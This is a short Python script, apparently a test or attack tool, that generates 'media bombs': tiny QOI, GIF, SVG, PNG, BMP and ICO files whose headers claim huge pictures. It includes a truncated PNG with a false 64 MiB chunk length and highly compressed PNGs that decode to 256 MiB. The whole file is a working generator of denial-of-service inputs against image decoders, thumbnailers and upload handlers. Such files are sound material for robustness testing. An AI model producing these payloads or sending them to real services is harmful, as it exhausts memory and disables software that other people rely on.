#!/usr/bin/env python3
"""media_bombs.py FORMAT FILE: writes a few bytes whose header claims a huge picture.

FORMAT: qoi, gif, svg, png (16000 x 16000 pixels), png-fit (8192 x 8192, within the sides and
area a picture may have, with the data of four rows), png-cut (the same, its data chunk claiming
64 MiB where the file ends), png-bits (8192 x 8192 at 1 bit a pixel, every
row there, packed by deflate to about 20 KB: 256 MiB decoded), png-bits-full (the same with noise
at the start of each row, about 370 KB: data enough to be believed), bmp (30000 x 30000), ico (one
bitmap entry of 30000 x 30000); and, to see one installed, ico-png (an icon file of one 48 x 48 PNG
image, the usual kind in today's icon files).
"""
import random
import struct
import sys
import zlib


def png_chunk(tag, body):
    return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))


def bitmap_info(side):
    return struct.pack("<IiiHHIIiiII", 40, side, side, 1, 32, 0, 16, 0, 0, 0, 0)


def bomb(kind):
    side = 16000
    if kind == "qoi":
        return b"qoif" + struct.pack(">II", side, side) + b"\x04\x00" + b"\x00" * 7 + b"\x01"
    if kind == "gif":
        return (b"GIF89a" + struct.pack("<HH", side, side) + b"\x00\x00\x00" + b","
                + struct.pack("<HHHH", 0, 0, side, side) + b"\x00\x02\x02\x44\x01\x00;")
    if kind == "svg":
        return (b'<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d">'
                b'<rect width="%d" height="%d"/></svg>' % (side, side, side, side))
    if kind in ("png", "png-fit", "png-cut"):
        if kind != "png":
            side = 8192
        head = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)))
        data = zlib.compress(b"\x00" * 64)
        if kind == "png-cut":
            return head + struct.pack(">I", 64 << 20) + b"IDAT" + data
        return head + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")
    if kind in ("png-bits", "png-bits-full"):
        side = 8192
        noise = random.Random(1)
        rows = []
        for _ in range(side):
            start = bytes(noise.getrandbits(8) for _ in range(40)) if kind == "png-bits-full" else b"\xff" * 40
            rows.append(b"\x00" + start + b"\xff" * (side // 8 - 40))
        return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
                + png_chunk(b"IDAT", zlib.compress(b"".join(rows), 9)) + png_chunk(b"IEND", b""))
    side = 30000
    if kind == "bmp":
        return b"BM" + struct.pack("<III", 70, 0, 54) + bitmap_info(side) + b"\x00" * 16
    if kind == "ico-png":
        rows = b"".join(b"\x00" + b"\x20\xa0\x40\xff" * 48 for _ in range(48))
        image = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 48, 48, 8, 6, 0, 0, 0))
                 + png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b""))
        return struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 48, 48, 0, 0, 1, 32, len(image), 22) + image
    if kind == "ico":
        image = bitmap_info(side) + b"\x00" * 16
        return struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(image), 22) + image
    raise SystemExit("unknown format " + kind)


if __name__ == "__main__":
    if len(sys.argv) != 3:
        raise SystemExit(__doc__)
    with open(sys.argv[2], "wb") as out:
        out.write(bomb(sys.argv[1]))
